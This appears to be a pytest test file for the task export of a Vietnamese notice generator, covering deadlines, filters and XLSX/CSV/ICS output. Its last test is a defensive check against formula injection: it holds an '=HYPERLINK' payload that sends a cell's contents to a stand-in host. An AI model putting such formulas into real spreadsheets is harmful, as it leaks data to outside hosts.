"""The task export: rows checked against the inputs, read back from every format.

The reference for each row is taken independently of notice_gen: tasks are read from the
raw YAML with ruamel, section paths from the headings of the rendered DOCX, and deadlines
worked out by hand from the published holiday schedules.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import textwrap
from pathlib import Path
from typing import Any

import icalendar
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from ruamel.yaml import YAML

from notice_gen.cli import main
from notice_gen.notice.document import plain
from notice_gen.tasks.export import SHEET_NAME_MAX, sheet_names
from tests.conftest import INPUTS, MINIMAL, docx_paragraphs, write_yaml

D = dt.date
STATUSES = {"quá hạn", "đến hạn trong 7 ngày", "còn hạn", "không có thời hạn"}


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["tasks", *args])
    assert "Traceback" not in result.output
    return result.exit_code, result.output


def export_json(tmp_path: Path, *paths: Path | str, extra: tuple[str, ...] = ()) -> dict[str, Any]:
    out = tmp_path / "tasks.json"
    code, output = run(*map(str, paths), "-o", str(out), *extra)
    assert code == 0, output
    return json.loads(out.read_text(encoding="utf-8"))


def one_line(text: str) -> str:
    return " ".join(text.split())


def yaml_tasks(path: Path) -> list[dict[str, Any]]:
    """Every mapping with a ``task`` key, in document order, straight from the YAML."""
    data = YAML(typ="safe", pure=True).load(path.read_text(encoding="utf-8"))
    found: list[dict[str, Any]] = []

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if "task" in node:
                found.append(node)
            for key in ("content", "list"):
                walk(node.get(key))
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(data["body"])
    return found


def as_date(value: Any) -> dt.date | None:
    """A deadline written as a date, read the way a person would."""
    if isinstance(value, dt.date):
        return value
    for form in ("%d/%m/%Y", "%Y-%m-%d"):
        try:
            return dt.datetime.strptime(str(value), form).date()
        except ValueError:
            pass
    return None


# --- rows against the inputs -------------------------------------------------------------


@pytest.mark.parametrize("path", INPUTS, ids=lambda p: p.stem)
def test_rows_match_the_tasks_written_in_the_input(path: Path, tmp_path: Path) -> None:
    exported = export_json(tmp_path, path)["tasks"]
    expected = yaml_tasks(path)
    assert len(exported) == len(expected) > 0
    for row, source in zip(exported, expected, strict=True):
        assert row["task"] == one_line(source["task"])
        assert row["lead"] == source.get("lead")
        assert row["support"] == source.get("support", [])
        assert row["directed_by"] == source.get("directed_by")
        assert row["file"] == str(path)
        written = source.get("deadline")
        if written is None:
            assert row["deadline"] == {"text": None, "date": None, "derived": False, "basis": ""}
            assert row["status"] == "không có thời hạn"
        elif as_date(written):
            assert row["deadline"]["date"] == as_date(written).isoformat()
            assert as_date(row["deadline"]["text"]) == as_date(written)
            assert row["deadline"]["derived"] is False
        else:  # the seeds' text deadlines are all recurring: no date
            assert row["deadline"]["text"] == written
            assert row["deadline"]["date"] is None


def docx_section_paths(docx: Path) -> dict[str, tuple[str, ...]]:
    """Task text → the headings the rendered notice prints above it: the enclosing ones
    by their number, the innermost in full."""
    stack: list[str] = []
    paths: dict[str, tuple[str, ...]] = {}
    for paragraph in docx_paragraphs(docx):
        style = paragraph.style.name if paragraph.style is not None else ""
        if match := re.fullmatch(r"Notice Heading (\d)", style):
            level = int(match.group(1))
            stack = [*stack[: level - 1], plain(paragraph.text)]
        elif stack:
            paths[plain(paragraph.text)] = (*(heading.split(" ")[0] for heading in stack[:-1]), stack[-1])
    return paths


@pytest.mark.parametrize("path", INPUTS, ids=lambda p: p.stem)
def test_section_path_is_what_the_notice_prints(
    path: Path, tmp_path: Path, rendered: dict[str, tuple[Path, Path]]
) -> None:
    printed = docx_section_paths(rendered[path.stem][0])
    for row in export_json(tmp_path, path)["tasks"]:
        matches = {tuple(p) for text, p in printed.items() if row["task"] in text}
        assert matches == {tuple(row["section"])}, row["task"]
        assert row["section_path"] == " > ".join(row["section"])


def test_the_section_path_of_the_issue_example(tmp_path: Path) -> None:
    rows = export_json(tmp_path, INPUTS[0])["tasks"]
    assert "B. > II. Lĩnh vực Ứng dụng CNTT" in {row["section_path"] for row in rows}


def test_notice_fields(tmp_path: Path) -> None:
    minimal = write_yaml(tmp_path, "so-5.yaml", MINIMAL.replace("- Đoạn văn thứ nhất.", "- task: Làm một việc."))
    (row,) = export_json(tmp_path, minimal)["tasks"]
    assert row["notice"] == {
        "number": "05/TB-BTTTT",
        "draft": False,
        "issue_date": "2022-01-05",
        "meeting_date": "2021-12-29",
        "subject": "Kết luận của Bộ trưởng Nguyễn Mạnh Hùng tại Hội nghị giao ban tháng 12",
    }
    assert row["section"] == ["I. NHẬN THỨC CHUNG"]
    draft = export_json(tmp_path, INPUTS[0])["tasks"][0]["notice"]
    assert draft["draft"] is True and draft["issue_date"] is None and "TB-BTTTT" in draft["number"]


# --- deadlines ---------------------------------------------------------------------------

DEADLINES = """
    issuer: {name: Bộ Thông tin và Truyền thông, abbreviation: BTTTT}
    place: Hà Nội
    number: 12
    issue_date: ISSUE
    meeting:
      name: Hội nghị giao ban
      date: MEETING
      venue: trụ sở Bộ
      chair: {title: Bộ trưởng, name: Nguyễn Mạnh Hùng}
    body:
      - section: Nhiệm vụ
        content:
          - {task: Việc một., lead: Cục Tin học hóa, deadline: "DEADLINE"}
    recipients: [Bộ trưởng]
    signer: {authority: [TL. Bộ trưởng], position: Chánh Văn phòng, name: Bùi Hoàng Phương}
"""


def deadline_of(tmp_path: Path, deadline: str, *, issue: str = "2022-01-05", meeting: str = "2021-12-29") -> dict:
    text = DEADLINES.replace("ISSUE", issue).replace("MEETING", meeting).replace("DEADLINE", deadline)
    if issue == "":
        text = text.replace("    number: 12\n    issue_date: \n", "")
    path = write_yaml(tmp_path, "han.yaml", text)
    (row,) = export_json(tmp_path, path)["tasks"]
    return row["deadline"]


@pytest.mark.parametrize(
    ("issue", "written", "expected"),
    [
        # Tue 17/01/2023; Tết Quý Mão off 20–26/01: 18, 19, 27, 30, 31/01, 01/02, 02/02.
        ("2023-01-17", "07 ngày làm việc kể từ ngày ban hành", D(2023, 2, 2)),
        # Thu 25/4/2024; off 27/4–1/5, Saturday 4/5 worked: 26/4, 2/5, 3/5, 4/5, 6/5.
        ("2024-04-25", "05 ngày làm việc kể từ ngày ban hành Thông báo", D(2024, 5, 6)),
        # Calendar days, not working days: 10 days after Fri 28/4/2023.
        ("2023-04-28", "trong 10 ngày kể từ ngày ký", D(2023, 5, 8)),
    ],
)
def test_working_day_deadlines(tmp_path: Path, issue: str, written: str, expected: dt.date) -> None:
    deadline = deadline_of(tmp_path, written, issue=issue, meeting=issue)
    assert deadline["text"] == written
    assert deadline["date"] == expected.isoformat()
    assert deadline["derived"] is True


def test_working_days_from_the_meeting(tmp_path: Path) -> None:
    # Meeting Fri 26/4/2024: 2/5, 3/5 and the working Saturday 4/5.
    deadline = deadline_of(tmp_path, "03 ngày làm việc sau cuộc họp", issue="2024-05-10", meeting="2024-04-26")
    assert deadline["date"] == "2024-05-04"


def test_days_without_a_starting_day_are_not_guessed(tmp_path: Path) -> None:
    deadline = deadline_of(tmp_path, "trong vòng 05 ngày làm việc")
    assert deadline["date"] is None
    assert "không rõ" in deadline["basis"]


def test_a_draft_has_no_date_for_days_after_issue(tmp_path: Path) -> None:
    deadline = deadline_of(tmp_path, "07 ngày làm việc kể từ ngày ban hành", issue="")
    assert deadline["date"] is None
    assert "ngày ban hành" in deadline["basis"]


@pytest.mark.parametrize(
    ("written", "expected", "derived"),
    [
        ("Quý III/2022", D(2022, 9, 30), True),
        ("trong quý 4 năm 2022", D(2023, 1, 3), True),  # Sat 31/12/2022: Điều 148
        ("Quý I/2024", D(2024, 4, 1), True),  # Sun 31/3/2024: Điều 148, the next working day
        ("6 tháng đầu năm 2022", D(2022, 6, 30), True),
        ("tháng 6/2022", D(2022, 6, 30), True),
        ("trong tháng 2 năm 2024", D(2024, 2, 29), True),
        ("trước tháng 3/2024", D(2024, 2, 29), True),
        ("năm 2022", D(2023, 1, 3), True),  # Sat 31/12/2022, Sun 1/1 and Mon 2/1/2023 (day off for 1/1)
        ("trước năm 2023", D(2023, 1, 3), True),
        ("trước 30/6", D(2022, 6, 30), True),  # the year of the notice
        ("trước ngày 15/8/2022", D(2022, 8, 15), False),
        ("hằng quý", None, False),
        ("định kỳ, thường xuyên", None, False),
    ],
)
def test_text_deadlines(tmp_path: Path, written: str, expected: dt.date | None, derived: bool) -> None:
    deadline = deadline_of(tmp_path, written)
    assert deadline["text"] == written
    assert deadline["date"] == (expected.isoformat() if expected else None)
    assert deadline["derived"] is derived
    assert deadline["basis"]


@pytest.mark.parametrize(
    ("written", "last_day", "expected"),
    [
        ("trong tháng 4/2022", "30/4/2022", D(2022, 5, 4)),  # Sat 30/4 (holiday), Sun 1/5, 2–3/5 off
        ("năm 2022", "31/12/2022", D(2023, 1, 3)),
        ("Quý IV/2022", "31/12/2022", D(2023, 1, 3)),
        ("trong 10 ngày kể từ ngày ký", "15/01/2022", D(2022, 1, 17)),  # 5/1 + 10 days: a Saturday
    ],
)
def test_a_period_ending_on_a_day_off_ends_on_the_next_working_day(
    tmp_path: Path, written: str, last_day: str, expected: dt.date
) -> None:
    """Bộ luật Dân sự 2015, Điều 148, khoản 5; lint says the same of a date typed on a day off."""
    deadline = deadline_of(tmp_path, written)
    assert deadline["date"] == expected.isoformat()
    assert deadline["derived"] is True
    assert "Điều 148" in deadline["basis"] and last_day in deadline["basis"]


def test_a_day_without_year_already_past_is_next_year(tmp_path: Path) -> None:
    deadline = deadline_of(tmp_path, "15/12", issue="2022-12-22", meeting="2022-12-20")
    assert deadline["date"] == "2023-12-15"


# --- statuses, filters -------------------------------------------------------------------

OFFICE_TASK = "Hoàn thiện hệ thống tiếp nhận và xử lý kiến nghị ngành TTTT"  # inputs/000, deadline 30/4/2022


@pytest.mark.parametrize(
    ("as_of", "status"),
    [
        ("2022-04-22", "còn hạn"),  # 8 days before
        ("23/4/2022", "đến hạn trong 7 ngày"),  # 7 days before
        ("2022-04-30", "đến hạn trong 7 ngày"),  # on the day
        ("2022-05-01", "quá hạn"),
    ],
)
def test_status_on_as_of(tmp_path: Path, as_of: str, status: str) -> None:
    rows = export_json(tmp_path, INPUTS[0], extra=("--as-of", as_of))["tasks"]
    (row,) = (r for r in rows if r["task"].startswith(OFFICE_TASK))
    assert row["status"] == status
    assert {r["status"] for r in rows if r["deadline"]["date"] is None} == {"không có thời hạn"}
    assert {r["status"] for r in rows} <= STATUSES


def test_status_defaults_to_today(tmp_path: Path) -> None:
    document = export_json(tmp_path, INPUTS[0])
    assert document["as_of"] == dt.date.today().isoformat()


def test_bad_as_of_is_bad_usage(tmp_path: Path) -> None:
    code, output = run(str(INPUTS[0]), "-o", str(tmp_path / "t.json"), "--as-of", "31/4/2022")
    assert code == 2 and "không có thật" in output
    assert not (tmp_path / "t.json").exists()


def test_unit_filter_takes_lead_and_supporting_units(tmp_path: Path) -> None:
    expected = [
        one_line(t["task"])
        for path in INPUTS
        for t in yaml_tasks(path)
        if "Vụ Bưu chính" in (t.get("lead"), *t.get("support", []))
    ]
    assert len(expected) == 1  # in inputs/001, as a supporting unit
    document = export_json(tmp_path, *INPUTS, extra=("--unit", "vụ bưu  chính"))
    assert [row["task"] for row in document["tasks"]] == expected
    assert document["unit"] == "vụ bưu  chính"


def test_unit_filter_ignores_tone_mark_placement(tmp_path: Path) -> None:
    expected = sum(t.get("lead") == "Cục Tin học hóa" for path in INPUTS for t in yaml_tasks(path))
    rows = export_json(tmp_path, *INPUTS, extra=("--unit", "Cục Tin học hoá"))["tasks"]
    assert len(rows) == expected > 0
    assert {row["lead"] for row in rows} == {"Cục Tin học hóa"}


def test_unknown_unit_writes_nothing_and_suggests(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    code, output = run(*map(str, INPUTS), "-o", str(out), "--unit", "Cục Vien thong")
    assert code == 2 and "Cục Viễn thông" in output
    assert not out.exists()


# --- formats read back -------------------------------------------------------------------


def test_xlsx(tmp_path: Path) -> None:
    out = tmp_path / "theo-doi.xlsx"
    code, output = run(*map(str, INPUTS), "-o", str(out), "--as-of", "2022-06-25")
    assert code == 0, output
    book = load_workbook(out)
    everything = book.worksheets[0]
    header = [cell.value for cell in everything[1]]
    column = {name: index for index, name in enumerate(header)}
    expected = [t for path in INPUTS for t in yaml_tasks(path)]
    assert everything.max_row == len(expected) + 1
    assert everything.freeze_panes == "A2"
    assert everything.auto_filter.ref == f"A1:{everything.cell(1, len(header)).column_letter}{len(expected) + 1}"
    assert "Trạng thái ngày 25/6/2022" in header
    for row, source in zip(everything.iter_rows(min_row=2, values_only=True), expected, strict=True):
        assert row[column["Nhiệm vụ"]] == one_line(source["task"])  # Vietnamese intact
        assert row[column["Đơn vị chủ trì"]] == source.get("lead")
        due = row[column["Hạn (ngày)"]]
        written = as_date(source.get("deadline"))
        assert (due.date() if due else None) == written  # a real date cell, not text
    dated = next(c for c in everything.iter_rows(min_row=2) if c[column["Hạn (ngày)"]].value)
    assert dated[column["Hạn (ngày)"]].is_date
    assert dated[column["Ngày họp"]].is_date
    assert everything.column_dimensions["G"].width >= 40  # the task column is wide enough to read

    leads = {t.get("lead") for t in expected} - {None}
    for sheet in book.worksheets[1:]:
        assert len(sheet.title) <= SHEET_NAME_MAX and not set("[]:*?/\\") & set(sheet.title)
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
        unit = sheet.oddHeader.center.text.replace("&&", "&")
        units_column = (column["Đơn vị chủ trì"], column["Đơn vị phối hợp"])
        for values in sheet.iter_rows(min_row=2, values_only=True):
            named = [values[units_column[0]], *(values[units_column[1]] or "").split("; ")]
            assert unit in named
        leads.discard(unit)
    assert not leads  # every lead unit has its sheet


def test_sheet_names_follow_excel_rules() -> None:
    long = "Sở Thông tin và Truyền thông các tỉnh, thành phố trực thuộc Trung ương"
    names = sheet_names([long, long, "Cục PTT/TTĐT [mới]: *", "history", "'Báo'", "cục báo chí", "Cục Báo chí"])
    assert all(len(n) <= 31 for n in names)
    assert len({n.casefold() for n in names}) == len(names)
    assert names[0].startswith("Sở Thông tin") and names[0].endswith("…")
    assert not any(set("[]:*?/\\") & set(n) for n in names)
    assert names[3].casefold() != "history"
    assert names[4] == "Báo"


def test_csv_is_utf8_with_bom(tmp_path: Path) -> None:
    out = tmp_path / "theo-doi.csv"
    code, _ = run(*map(str, INPUTS), "-o", str(out))
    assert code == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    expected = [t for path in INPUTS for t in yaml_tasks(path)]
    assert len(rows) == len(expected)
    for row, source in zip(rows, expected, strict=True):
        assert row["Nhiệm vụ"] == one_line(source["task"])
        assert row["Đơn vị phối hợp"] == "; ".join(source.get("support", []))
        written = as_date(source.get("deadline"))
        assert row["Hạn (ngày)"] == (written.isoformat() if written else "")


def read_events(path: Path) -> dict[str, icalendar.Event]:
    calendar = icalendar.Calendar.from_ical(path.read_bytes())
    return {str(event["UID"]): event for event in calendar.walk("VEVENT")}


def test_ics_has_one_all_day_event_per_dated_deadline(tmp_path: Path) -> None:
    out = tmp_path / "han.ics"
    code, _ = run(*map(str, INPUTS), "-o", str(out))
    assert code == 0
    events = read_events(out)
    dated = [t for path in INPUTS for t in yaml_tasks(path) if as_date(t.get("deadline"))]
    assert len(events) == len(dated)
    assert sorted(e.decoded("DTSTART") for e in events.values()) == sorted(as_date(t["deadline"]) for t in dated)
    for event in events.values():
        start, end = event.decoded("DTSTART"), event.decoded("DTEND")
        assert not isinstance(start, dt.datetime)  # all day
        assert end - start == dt.timedelta(days=1)
        assert str(event["DESCRIPTION"]).startswith("Nhiệm vụ: ")


def test_ics_uids_survive_a_re_export(tmp_path: Path) -> None:
    folder = tmp_path / "inputs"
    folder.mkdir()
    for path in INPUTS:
        shutil.copy(path, folder)
    first, second = tmp_path / "1.ics", tmp_path / "2.ics"
    assert run(str(folder), "-o", str(first), "--as-of", "2022-01-01")[0] == 0
    # A new deadline for one task: its event must be updated, not duplicated.
    notice = folder / INPUTS[0].name
    notice.write_text(notice.read_text(encoding="utf-8").replace("deadline: 30/4/2022", "deadline: 15/5/2022", 1))
    assert run(str(folder), "-o", str(second), "--as-of", "2023-01-01")[0] == 0
    before, after = read_events(first), read_events(second)
    assert set(before) == set(after)
    moved = [uid for uid in before if before[uid].decoded("DTSTART") != after[uid].decoded("DTSTART")]
    assert len(moved) == 1 and after[moved[0]].decoded("DTSTART") == D(2022, 5, 15)


def test_ics_uids_survive_issuing(tmp_path: Path) -> None:
    """The draft's export and the issued notice's (another file name, a number and a date) hold
    the same events: a calendar that imports both updates, never duplicates."""
    draft = write_yaml(tmp_path, "du-thao.yaml", DEADLINES.replace("DEADLINE", "Quý III/2022"))
    draft.write_text(
        draft.read_text(encoding="utf-8").replace("number: 12\n", "").replace("issue_date: ISSUE\n", ""),
        encoding="utf-8",
    )
    draft.write_text(draft.read_text(encoding="utf-8").replace("MEETING", "2022-06-29"), encoding="utf-8")
    issued = tmp_path / "issued" / "12-TB-BTTTT-2022.yaml"
    issued.parent.mkdir()
    issued.write_text(draft.read_text(encoding="utf-8") + "number: 12\nissue_date: 2022-07-01\n", encoding="utf-8")
    before, after = (export_json(tmp_path, path)["tasks"] for path in (draft, issued))
    assert [row["uid"] for row in before] == [row["uid"] for row in after]
    assert before[0]["notice"]["draft"] and not after[0]["notice"]["draft"]


def test_identical_tasks_get_distinct_uids(tmp_path: Path) -> None:
    body = MINIMAL.replace(
        "- Đoạn văn thứ nhất.", "- {task: Báo cáo., deadline: 1/2/2022}\n      - {task: Báo cáo., deadline: 1/3/2022}"
    )
    path = write_yaml(tmp_path, "hai.yaml", body)
    rows = export_json(tmp_path, path)["tasks"]
    assert len({row["uid"] for row in rows}) == 2


def test_json_shape(tmp_path: Path) -> None:
    document = export_json(tmp_path, *INPUTS, extra=("--as-of", "2022-06-25"))
    assert {k: document[k] for k in ("format", "version", "as_of", "unit")} == {
        "format": "notice-gen/tasks",
        "version": 1,
        "as_of": "2022-06-25",
        "unit": None,
    }
    keys = {"uid", "file", "notice", "section", "section_path", "task", "lead", "support", "directed_by"}
    for row in document["tasks"]:
        assert set(row) == keys | {"deadline", "status"}
        assert set(row["deadline"]) == {"text", "date", "derived", "basis"}


# --- bad input, safety -------------------------------------------------------------------


def test_a_bad_file_is_reported_and_the_batch_goes_on(tmp_path: Path) -> None:
    bad = write_yaml(
        tmp_path,
        "hong.yaml",
        textwrap.dedent(MINIMAL).replace("issue_date: 2022-01-05", "issue_date: 2022-02-30"),
    )
    out = tmp_path / "t.json"
    code, output = run(str(bad), str(INPUTS[0]), "-o", str(out))
    assert code == 2
    assert f"{bad}:4:13: issue_date: ngày “2022-02-30” không có thật trong lịch" in output
    rows = json.loads(out.read_text(encoding="utf-8"))["tasks"]
    assert len(rows) == len(yaml_tasks(INPUTS[0])) and {r["file"] for r in rows} == {str(INPUTS[0])}


def test_only_bad_files_leave_the_old_export_untouched(tmp_path: Path) -> None:
    bad = write_yaml(tmp_path, "hong.yaml", "issuer: [\n")
    out = tmp_path / "t.csv"
    out.write_text("cũ", encoding="utf-8")
    code, output = run(str(bad), "-o", str(out))
    assert code == 2 and f"{bad}:" in output
    assert out.read_text(encoding="utf-8") == "cũ"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_unknown_output_format_is_bad_usage(tmp_path: Path) -> None:
    code, output = run(str(INPUTS[0]), "-o", str(tmp_path / "t.pdf"))
    assert code == 2 and ".xlsx" in output


def test_a_bad_days_file_stops_before_writing(tmp_path: Path) -> None:
    days = tmp_path / "ngay.toml"
    days.write_text('[[day_off]]\ndate = 2027-02-30\nname = "x"\n', encoding="utf-8")
    out = tmp_path / "t.json"
    code, output = run(str(INPUTS[0]), "-o", str(out), "--days-file", str(days))
    assert code == 2 and f"{days}:2:" in output
    assert not out.exists()


def test_days_file_moves_a_working_day_deadline(tmp_path: Path) -> None:
    days = tmp_path / "ngay.toml"
    days.write_text('[[day_off]]\ndate = 2023-03-02\nname = "Nghỉ riêng"\n', encoding="utf-8")
    text = DEADLINES.replace("ISSUE", "2023-03-01").replace("MEETING", "2023-03-01")
    path = write_yaml(tmp_path, "han.yaml", text.replace("DEADLINE", "01 ngày làm việc kể từ ngày ban hành"))
    plain = export_json(tmp_path, path)["tasks"][0]["deadline"]["date"]
    moved = export_json(tmp_path, path, extra=("--days-file", str(days)))["tasks"][0]["deadline"]["date"]
    assert (plain, moved) == ("2023-03-02", "2023-03-03")


@pytest.mark.parametrize("command", [["--help"], ["tasks", "--help"], ["render", "--help"]])
def test_help_imports_no_export_library(command: list[str]) -> None:
    """Help stays fast: it imports neither the export libraries nor the renderers (WeasyPrint)."""
    import subprocess
    import sys

    code = (
        "import sys; from click.testing import CliRunner; from notice_gen.cli import main; "
        f"CliRunner().invoke(main, {command!r}); "
        "print(sorted(m for m in ('openpyxl', 'icalendar', 'holidays', 'weasyprint', 'docxtpl') if m in sys.modules))"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.strip() == "[]"


def test_an_unwritable_output_exits_1(tmp_path: Path) -> None:
    blocker = tmp_path / "tep"
    blocker.write_text("", encoding="utf-8")
    code, output = run(str(INPUTS[0]), "-o", str(blocker / "t.json"))
    assert code == 1 and "không ghi được" in output


# Issue 15 #5: formula injection


def test_formulas_in_tasks_are_written_as_text(tmp_path: Path) -> None:
    """A task "=HYPERLINK(…)" or a unit "=1+2" was a formula in the XLSX (and a sheet named "=1+2");
    the CSV left it as is. Now: text cells in XLSX, an apostrophe before = + - @ in CSV (OWASP)."""
    task = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
    text = (
        DEADLINES.replace("ISSUE", "2022-01-05")
        .replace("MEETING", "2021-12-29")
        .replace('{task: Việc một., lead: Cục Tin học hóa, deadline: "DEADLINE"}', f"{{task: '{task}', lead: '=1+2'}}")
    )
    path = write_yaml(tmp_path, "a.yaml", text)
    book_path, csv_path = tmp_path / "t.xlsx", tmp_path / "t.csv"
    for out in (book_path, csv_path):
        code, output = run(str(path), "-o", str(out))
        assert code == 0, output
    book = load_workbook(book_path)
    assert "=1+2" not in book.sheetnames and "1+2" in book.sheetnames
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    first = book.worksheets[0]
    values = [cell.value for cell in first[2]]
    assert task in values and "=1+2" in values  # shown exactly as typed, as text
    rows = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"))))
    assert "'" + task in rows[1] and "'=1+2" in rows[1]
